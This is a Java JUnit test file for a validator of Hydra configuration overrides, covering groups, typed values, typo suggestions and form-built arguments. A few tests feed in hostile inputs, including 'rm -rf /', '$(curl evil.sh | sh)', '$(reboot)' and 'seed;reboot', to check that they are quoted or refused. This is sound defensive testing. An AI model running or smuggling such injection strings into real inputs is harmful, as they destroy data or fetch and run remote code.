package io.missioncontrol.project.hydra;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HydraOverridesTest {

    private final HydraConfig vision = Projects.vision();

    private List<String> messages(String... overrides) {
        return HydraOverrides.validateText(vision, List.of(overrides)).stream().map(OverrideProblem::message).toList();
    }

    private String message(String override) {
        List<String> messages = messages(override);
        assertThat(messages).hasSize(1);
        return messages.get(0);
    }

    @Nested
    class Groups {

        @ParameterizedTest
        @ValueSource(strings = {"model=mlp", "model=resnet", "model/optimizer=sgd", "dataset=imagenet", "trainer=fast",
                "experiment=big_resnet", "dataset=[cifar10,imagenet]", "~dataset", "~model=cnn", "~experiment",
                "+model@backbone=resnet"})
        void validGroupOverridesHaveNoProblem(String override) {
            assertThat(messages(override)).isEmpty();
        }

        @Test
        void fieldKeysMayCarryHydrasPrefixesAsAUserWritesThem() {
            Map<String, String> fields = new java.util.LinkedHashMap<>();
            fields.put("+trainer.seed", "1");
            fields.put("++run_name", "a b");
            fields.put("~debug", null);
            OverrideSet set = HydraOverrides.build(vision, fields, List.of());

            assertThat(set.problems()).isEmpty();
            assertThat(set.arguments()).containsExactly("+trainer.seed=1", "++run_name='a b'", "~debug");
            assertThat(HydraOverrides.build(vision, Map.of("+experiment", "quick"), List.of()).problems())
                    .extracting(OverrideProblem::message).containsExactly(
                            "group 'experiment' is already in the defaults list: write experiment=quick to change it");
            assertThat(HydraOverrides.build(vision, Map.of("+seed", "1"), List.of()).problems())
                    .extracting(OverrideProblem::message).singleElement().asString().contains("seed");
        }

        @Test
        void aNullOptionIsRefusedAsHydraRefusesItWithTheDeletionToWriteInstead() {
            assertThat(message("model=null")).contains("Hydra takes no null option for group 'model'")
                    .contains("write ~model");
        }

        @Test
        void aMisspelledGroupGetsASuggestion() {
            assertThat(message("modle=mlp")).isEqualTo("unknown group 'modle' — did you mean 'model'?");
            assertThat(message("model/optimiser=adam")).isEqualTo("unknown group 'model/optimiser' — did you mean 'model/optimizer'?");
        }

        @Test
        void anUnknownGroupPathWithoutNearMissSaysSo() {
            assertThat(message("callbacks/early=x")).isEqualTo("unknown group 'callbacks/early'");
        }

        @Test
        void anOptionNotInTheGroupListsTheOptions(@TempDir Path project) {
            Projects.write(project,
                    "configs/train.yaml", "defaults:\n  - model: cnn\n",
                    "configs/model/cnn.yaml", "name: cnn\n",
                    "configs/model/mlp.yaml", "name: mlp\n");
            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();

            List<OverrideProblem> problems = HydraOverrides.validateText(config, List.of("model=resnet"));

            assertThat(problems).containsExactly(new OverrideProblem("model=resnet", "option 'resnet' not in model: cnn, mlp"));
        }

        @Test
        void aNearMissOptionGetsASuggestion() {
            assertThat(message("model/optimizer=adamw"))
                    .isEqualTo("option 'adamw' not in model/optimizer: adam, sgd — did you mean 'adam'?");
        }

        @Test
        void aListOfOptionsWhoseNestedDefaultsClashIsRefusedAsHydraRefusesIt() {
            // cnn chooses model/optimizer: adam, mlp chooses sgd: one group, two values
            assertThat(message("model=[cnn,mlp]")).startsWith("configs/model/cnn.yaml, line 2: multiple values for model/optimizer");
        }

        @Test
        void aPackageNoEntryHasMustBeAppended() {
            assertThat(message("model@backbone=resnet"))
                    .isEqualTo("group 'model@backbone' is not in the defaults list: write +model@backbone=resnet to add it");
        }

        @Test
        void everyOptionOfAListIsChecked() {
            assertThat(message("model=[cnn,vit]")).startsWith("option 'vit' not in model: cnn, mlp, resnet");
        }

        @Test
        void aGroupValueKeyWrittenWithDotsPointsToTheGroupSyntax() {
            assertThat(message("model.optimizer=sgd")).isEqualTo("model.optimizer is a config group: write model/optimizer=sgd");
        }

        @Test
        void appendingAGroupAlreadyListedSaysHowToChangeIt() {
            assertThat(message("+model=mlp")).isEqualTo("group 'model' is already in the defaults list: write model=mlp to change it");
        }

        @Test
        void settingAGroupNotListedSaysHowToAddIt(@TempDir Path project) {
            Projects.write(project, "configs/train.yaml", "seed: 1\n", "configs/experiment/big.yaml", "seed: 7\n");
            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();

            assertThat(HydraOverrides.validateText(config, List.of("experiment=big"))).extracting(OverrideProblem::message)
                    .containsExactly("group 'experiment' is not in the defaults list: write +experiment=big to add it");
            assertThat(HydraOverrides.validateText(config, List.of("+experiment=big"))).isEmpty();
            assertThat(HydraOverrides.validateText(config, List.of("~experiment"))).extracting(OverrideProblem::message)
                    .containsExactly("cannot delete group 'experiment': it is not in the defaults list");
        }

        @Test
        void forceAddIsNotForGroups() {
            assertThat(message("++model=mlp")).isEqualTo("'++' is not supported for config groups: write model=mlp");
        }

        @Test
        void deletingAGroupWithAnotherOptionNamesTheCurrentOne() {
            assertThat(message("~model=mlp")).isEqualTo("cannot delete model=mlp: the current option is cnn");
        }

        @Test
        void aDictionaryIsNoOption() {
            assertThat(message("model={a: 1}")).isEqualTo("group 'model' takes an option name, not a dictionary");
        }

        @Test
        void hydrasOwnGroupsAndKeysAreLeftToHydra() {
            assertThat(messages("hydra/launcher=submitit_slurm", "hydra.run.dir=/tmp/run", "hydra.job.chdir=false")).isEmpty();
        }
    }

    @Nested
    class Values {

        @ParameterizedTest
        @ValueSource(strings = {"model.lr=0.01", "model.lr=1", "model.lr=1e-4", "model.lr=-inf", "dataset.batch_size=64",
                "dataset.batch_size=0.5", "dataset.batch_size=${oc.env:BS}", "model.lr=null", "debug=true", "debug=False",
                "run_name=any text at all", "trainer.precision=32", "trainer.gradient_clip_val=0.5", "tags=[a,b]",
                "model.channels=[16,32]", "model.channels.0=8", "+trainer.seed=7", "++trainer.seed=7", "++seed=1",
                "~seed", "~seed=42", "~model.dropout", "notes='a note'", "model.optimizer.betas=[0.9,0.99]"})
        void validValueOverridesHaveNoProblem(String override) {
            assertThat(messages(override)).isEmpty();
        }

        @Test
        void aNumberKeyRefusesText() {
            assertThat(message("model.lr=abc")).isEqualTo("model.lr expects a number, got 'abc'");
            assertThat(message("dataset.batch_size=lots")).isEqualTo("dataset.batch_size expects a number, got 'lots'");
        }

        @Test
        void aBooleanKeyRefusesOtherWords() {
            assertThat(message("debug=maybe")).isEqualTo("debug expects true or false, got 'maybe'");
            assertThat(message("debug=yes")).isEqualTo("debug expects true or false, got 'yes'");
        }

        @Test
        void aMisspelledKeyGetsASuggestion() {
            assertThat(message("model.lrr=0.1")).isEqualTo("unknown key 'model.lrr' — did you mean 'model.lr'?");
            assertThat(message("trainer.max_epoch=3")).isEqualTo("unknown key 'trainer.max_epoch' — did you mean 'trainer.max_epochs'?");
            assertThat(message("sed=1")).isEqualTo("unknown key 'sed' — did you mean 'seed'?");
        }

        @Test
        void anUnknownKeySaysHowToAddIt() {
            assertThat(message("trainer.accumulate_grad_batches=4"))
                    .isEqualTo("unknown key 'trainer.accumulate_grad_batches' (to add it write +trainer.accumulate_grad_batches=…)");
            assertThat(message("wandb=on")).isEqualTo("unknown group or key 'wandb' (to add it write +wandb=…)");
        }

        @Test
        void appendingAnExistingKeyIsRefused() {
            assertThat(message("+seed=1")).isEqualTo("'seed' already exists: write seed=… to change it");
        }

        @Test
        void deletingAMissingKeyIsRefused() {
            assertThat(message("~trainer.seed")).isEqualTo("cannot delete 'trainer.seed': no such key");
            assertThat(message("~sed")).isEqualTo("cannot delete 'sed': no such key — did you mean 'seed'?");
        }

        @Test
        void deletingWithAnotherValueNamesTheCurrentOne() {
            assertThat(message("~seed=7")).isEqualTo("cannot delete seed=7: its value is 42");
        }

        @Test
        void aSweepIsRefusedWithTheTwoWaysOut() {
            assertThat(message("seed=1,2,3"))
                    .isEqualTo("'1,2,3' would start several runs (a sweep); for one string value write seed='1,2,3', for a list seed=[1,2,3]");
            assertThat(message("seed=choice(1,2)")).startsWith("'choice(1,2)' would start several runs");
            assertThat(message("model.lr=range(0,1,0.1)")).startsWith("'range(0,1,0.1)' would start several runs");
        }

        @Test
        void aBrokenExpressionIsRefused() {
            assertThat(message("tags=[a,b")).isEqualTo("value of tags: unclosed '['");
            assertThat(message("tags=[a;b]")).isEqualTo("value of tags: character ';' must be inside quotes");
            assertThat(message("tags=[a,'b]")).isEqualTo("value of tags: unclosed quote '");
            assertThat(message("tags={a: [1}")).isEqualTo("value of tags: unbalanced '}'");
        }

        @Test
        void aKeySetTwiceIsReportedOnTheSecond() {
            assertThat(HydraOverrides.validateText(vision, List.of("seed=1", "seed=2")))
                    .containsExactly(new OverrideProblem("seed=2", "'seed' is already set by 'seed=1'"));
        }
    }

    @Nested
    class ValueKeysOfTheChosenGroups {

        @Test
        void aKeyOnlyTheChosenOptionHasIsValidWithThatChoice() {
            assertThat(messages("model=mlp", "model.hidden=128")).isEmpty();
            assertThat(messages("model.hidden=128", "model=mlp")).as("the order does not matter").isEmpty();
        }

        @Test
        void withoutTheChoiceItIsAnUnknownKeyNamingTheOptionThatHasIt() {
            assertThat(message("model.hidden=128")).isEqualTo("unknown key 'model.hidden' — model=mlp has it: "
                    + "did you mean to choose that? (to add the key write +model.hidden=…)");
        }

        @Test
        void aKeyOfTheDefaultOptionIsUnknownOnceAnotherIsChosen() {
            assertThat(messages("model=mlp", "model.channels=[1]")).containsExactly("unknown key 'model.channels' — "
                    + "model=cnn has it: did you mean to choose that? (to add the key write +model.channels=…)");
        }

        @Test
        void aKeyNoOptionHasIsJustUnknown() {
            assertThat(message("model.width=3")).isEqualTo("unknown key 'model.width' (to add it write +model.width=…)");
        }

        @Test
        void addingTheKeyStaysAllowedAndAddingItWhereItExistsIsNot() {
            assertThat(messages("+model.hidden=128")).isEmpty();
            assertThat(messages("model=mlp", "+model.hidden=1"))
                    .containsExactly("'model.hidden' already exists: write model.hidden=… to change it");
        }

        @Test
        void typesComeFromTheChosenOption() {
            assertThat(messages("model=mlp", "model.hidden=abc")).containsExactly("model.hidden expects a number, got 'abc'");
        }

        @Test
        void nestedGroupsFollowTheChosenOptionOrTheirOwnChoice() {
            assertThat(messages("model=mlp", "model.optimizer.momentum=0.5")).as("mlp brings sgd").isEmpty();
            assertThat(messages("model/optimizer=sgd", "model.optimizer.nesterov=false")).isEmpty();
            assertThat(messages("model=mlp", "model/optimizer=adam", "model.optimizer.momentum=0.5"))
                    .containsExactly("unknown key 'model.optimizer.momentum' — model/optimizer=sgd has it: "
                            + "did you mean to choose that? (to add the key write +model.optimizer.momentum=…)");
        }

        @Test
        void anExperimentsOverridesCountAndTheCommandLineWinsOverThem() {
            assertThat(messages("experiment=big_resnet", "model.pretrained=false", "dataset.image_size=128")).isEmpty();
            assertThat(messages("experiment=big_resnet", "model=mlp", "model.hidden=64", "model.depth=3")).isEmpty();
        }

        @Test
        void aDeletedGroupTakesItsKeysAway() {
            assertThat(messages("~dataset", "dataset.batch_size=1")).singleElement().asString()
                    .startsWith("unknown key 'dataset.batch_size'");
        }

        @Test
        void aGroupOverrideThatCannotBeAppliedIsReportedAndTheRestStillChecked() {
            assertThat(HydraOverrides.validateText(vision, List.of("+model=mlp", "model.hidden=1", "model=vit")))
                    .containsExactly(
                            new OverrideProblem("+model=mlp", "group 'model' is already in the defaults list: write model=mlp to change it"),
                            new OverrideProblem("model.hidden=1", "unknown key 'model.hidden' — model=mlp has it: "
                                    + "did you mean to choose that? (to add the key write +model.hidden=…)"),
                            new OverrideProblem("model=vit", "option 'vit' not in model: cnn, mlp, resnet"));
        }

        @Test
        void aConfigMadeByHandIsCheckedAsItIs() {
            HydraConfig byHand = new HydraConfig("configs", "train",
                    List.of(new HydraGroup("model", List.of("cnn", "mlp"), "cnn")), Map.of("model", Map.of("layers", 2)));

            assertThat(HydraOverrides.validateText(byHand, List.of("model=mlp", "model.layers=3"))).isEmpty();
            assertThat(HydraOverrides.validateText(byHand, List.of("model=mlp", "model.hidden=3"))).extracting(OverrideProblem::message)
                    .containsExactly("unknown key 'model.hidden' (to add it write +model.hidden=…)");
        }

        @Test
        void aComposedConfigIsTheBaseForFurtherChecks() {
            HydraConfig mlp = vision.withChoices(Map.of("model", "mlp")).orElseThrow();

            assertThat(HydraOverrides.validateText(mlp, List.of("model.hidden=128"))).isEmpty();
            assertThat(HydraOverrides.validateText(mlp, List.of("model=cnn", "model.hidden=128"))).extracting(OverrideProblem::message)
                    .singleElement().asString().startsWith("unknown key 'model.hidden'");
        }
    }

    @Nested
    class RawText {

        @Test
        void parseErrorsBecomeProblemsForTheTextAsTyped() {
            assertThat(HydraOverrides.validateText(vision, List.of("model", "mo del=1", "=3")))
                    .containsExactly(
                            new OverrideProblem("model", "'model' has no value: write model=value"),
                            new OverrideProblem("mo del=1", "key 'mo del' may only hold letters, digits and _ . / @ -"),
                            new OverrideProblem("=3", "empty key in '=3'"));
        }

        @Test
        void blankLinesAreSkipped() {
            assertThat(HydraOverrides.validateText(vision, List.of("", "   ", "seed=3"))).isEmpty();
        }

        @Test
        void hostileTextIsReportedNotThrown() {
            assertThat(HydraOverrides.validateText(vision, List.of("seed=1\nrm -rf /", "run_name=$(id)\0")))
                    .containsExactly(
                            new OverrideProblem("seed=1\nrm -rf /", "override contains a newline"),
                            new OverrideProblem("run_name=$(id)\0", "override contains a NUL character"));
        }

        @Test
        void validatingBuiltOverridesReportsTheirArgument() {
            assertThat(HydraOverrides.validate(vision, HydraOverride.set("model.lr", "fast")))
                    .containsExactly(new OverrideProblem("model.lr=fast", "model.lr expects a number, got 'fast'"));
        }
    }

    @Nested
    class BuildingFromAForm {

        private static Map<String, String> fields(String... keysAndValues) {
            Map<String, String> map = new LinkedHashMap<>();
            for (int i = 0; i < keysAndValues.length; i += 2) {
                map.put(keysAndValues[i], keysAndValues[i + 1]);
            }
            return map;
        }

        @Test
        void changedFieldsBecomeOverridesInOrderAndExtrasFollow() {
            OverrideSet set = HydraOverrides.build(vision, fields(
                    "model", "mlp",
                    "model.lr", "0.05",
                    "run_name", "my first run",
                    "experiment", "quick"),
                    List.of("+trainer.seed=7", "  "));

            assertThat(set.problems()).isEmpty();
            assertThat(set.valid()).isTrue();
            assertThat(set.arguments()).containsExactly(
                    "model=mlp", "model.lr=0.05", "run_name='my first run'", "experiment=quick", "+trainer.seed=7");
        }

        @Test
        void fieldsLeftAtTheirDefaultGiveNoOverride() {
            OverrideSet set = HydraOverrides.build(vision, fields(
                    "model", "cnn",
                    "model.lr", "1e-3",
                    "seed", "42",
                    "debug", "False",
                    "trainer.gradient_clip_val", "null",
                    "model.channels", "[32, 64]",
                    "experiment", "",
                    "notes", "???",
                    "dataset.root", "${oc.env:DATA_DIR,/data}/cifar10"), List.of());

            assertThat(set.overrides()).isEmpty();
            assertThat(set.valid()).isTrue();
        }

        @Test
        void listAndMapFieldsTakeHydraSyntax() {
            OverrideSet set = HydraOverrides.build(vision, fields("model.channels", "[16, 32, 64]", "tags", "[a, 'b c']"), List.of());

            assertThat(set.arguments()).containsExactly("model.channels=[16, 32, 64]", "tags=[a, 'b c']");
            assertThat(set.valid()).isTrue();
        }

        @Test
        void stringFieldsAreLiteralsEvenWithCommasOrBrackets() {
            OverrideSet set = HydraOverrides.build(vision, fields("run_name", "a,b [test]"), List.of());

            assertThat(set.arguments()).containsExactly("run_name='a,b [test]'");
            assertThat(set.valid()).isTrue();
        }

        @Test
        void clearingAGroupThatHasADefaultRemovesIt() {
            // Hydra refuses dataset=null on the command line ("Config group override must be a string or a list")
            assertThat(HydraOverrides.build(vision, fields("dataset", ""), List.of()).arguments()).containsExactly("~dataset");
        }

        @Test
        void aGroupNotInTheDefaultsListIsAppended(@TempDir Path project) {
            Projects.write(project, "configs/train.yaml", "seed: 1\n", "configs/experiment/big.yaml", "seed: 7\n");
            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();

            OverrideSet set = HydraOverrides.build(config, fields("experiment", "big"), List.of());

            assertThat(set.arguments()).containsExactly("+experiment=big");
            assertThat(set.valid()).isTrue();
        }

        @Test
        void valueFieldsAreReadAgainstTheChosenGroups() {
            OverrideSet set = HydraOverrides.build(vision, fields("model", "mlp", "model.hidden", "128", "model.lr", "0.01"), List.of());

            assertThat(set.problems()).isEmpty();
            assertThat(set.arguments()).as("mlp's lr is 0.01 already").containsExactly("model=mlp", "model.hidden=128");
        }

        @Test
        void aValueFieldOfTheChosenOptionAloneIsAnUnknownKey() {
            OverrideSet set = HydraOverrides.build(vision, fields("model.hidden", "128"), List.of());

            assertThat(set.problems()).extracting(OverrideProblem::override).containsExactly("model.hidden=128");
            assertThat(set.problems().getFirst().message()).startsWith("unknown key 'model.hidden' — model=mlp has it");
        }

        @Test
        void aGroupChosenInTheExtrasCountsForTheFields() {
            OverrideSet set = HydraOverrides.build(vision, fields("model.hidden", "128"), List.of("model=mlp"));

            assertThat(set.valid()).isTrue();
            assertThat(set.arguments()).containsExactly("model.hidden=128", "model=mlp");
        }

        @Test
        void aListFieldOfTheChosenOptionTakesHydraSyntax() {
            HydraConfig mlp = vision.withChoices(Map.of("model", "mlp")).orElseThrow();

            OverrideSet set = HydraOverrides.build(mlp, fields("model", "cnn", "model.channels", "[8, 16]"), List.of());

            assertThat(set.valid()).isTrue();
            assertThat(set.overrides()).containsExactly(HydraOverride.set("model", "cnn"),
                    new HydraOverride(HydraOverride.Kind.SET, "model.channels", "[8, 16]", true));
        }

        @Test
        void aNestedGroupFieldAtItsDefaultIsKeptWhenAnotherChoiceWouldChangeIt() {
            assertThat(HydraOverrides.build(vision, fields("model", "mlp", "model/optimizer", "adam"), List.of()).arguments())
                    .containsExactly("model=mlp", "model/optimizer=adam");
            assertThat(HydraOverrides.build(vision, fields("model", "resnet", "model/optimizer", "adam"), List.of()).arguments())
                    .as("resnet chooses adam too").containsExactly("model=resnet");
        }

        @Test
        void aGroupFieldWithoutAnEntryIsAppendedEvenWhenItsParentDecides(@TempDir Path project) {
            Projects.write(project,
                    "configs/train.yaml", "defaults:\n  - model: cnn\n  - _self_\n",
                    "configs/model/cnn.yaml", "defaults:\n  - optimizer: adam\n  - _self_\nname: cnn\n",
                    "configs/model/linear.yaml", "name: linear\n",
                    "configs/model/optimizer/adam.yaml", "lr: 1\n",
                    "configs/model/optimizer/sgd.yaml", "lr: 2\n");
            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();

            OverrideSet set = HydraOverrides.build(config, fields("model", "linear", "model/optimizer", "sgd",
                    "model.optimizer.lr", "3"), List.of());

            assertThat(set.problems()).isEmpty();
            assertThat(set.arguments()).containsExactly("model=linear", "+model/optimizer=sgd", "model.optimizer.lr=3");
        }

        @Test
        void problemsNameTheFieldAsBuilt() {
            OverrideSet set = HydraOverrides.build(vision, fields("model.lr", "abc", "modle", "mlp", "model", "vit"), List.of("debug=perhaps"));

            assertThat(set.problems()).containsExactly(
                    new OverrideProblem("model.lr=abc", "model.lr expects a number, got 'abc'"),
                    new OverrideProblem("modle=mlp", "unknown group 'modle' — did you mean 'model'?"),
                    new OverrideProblem("model=vit", "option 'vit' not in model: cnn, mlp, resnet"),
                    new OverrideProblem("debug=perhaps", "debug expects true or false, got 'perhaps'"));
            assertThat(set.valid()).isFalse();
        }

        @Test
        void aFieldRepeatedInTheExtrasIsReported() {
            OverrideSet set = HydraOverrides.build(vision, fields("seed", "1"), List.of("seed=2"));

            assertThat(set.problems()).containsExactly(new OverrideProblem("seed=2", "'seed' is already set by 'seed=1'"));
        }

        @Test
        void hostileFieldValuesAreQuotedOrRefused() {
            OverrideSet set = HydraOverrides.build(vision, fields(
                    "run_name", "$(curl evil.sh | sh); `id` 'x' \"y\" \\z",
                    "notes", "line one\nline two",
                    "dataset.root", "/data\0/x"), List.of("+evil=$(reboot)", "bad=1\n; rm -rf /"));

            assertThat(set.arguments()).containsExactly(
                    "run_name='$(curl evil.sh | sh); `id` \\'x\\' \"y\" \\z'",
                    "+evil='$(reboot)'");
            assertThat(set.problems()).containsExactly(
                    new OverrideProblem("notes=line one\nline two", "value contains a newline"),
                    new OverrideProblem("dataset.root=/data\0/x", "value contains a NUL character"),
                    new OverrideProblem("bad=1\n; rm -rf /", "override contains a newline"));
        }

        @Test
        void hostileKeysAreRefused() {
            OverrideSet set = HydraOverrides.build(vision, fields("seed;reboot", "1", "", "2"), List.of());

            assertThat(set.overrides()).isEmpty();
            assertThat(set.problems()).extracting(OverrideProblem::message).containsExactly(
                    "key 'seed;reboot' may only hold letters, digits and _ . / @ -", "empty key");
        }
    }
}
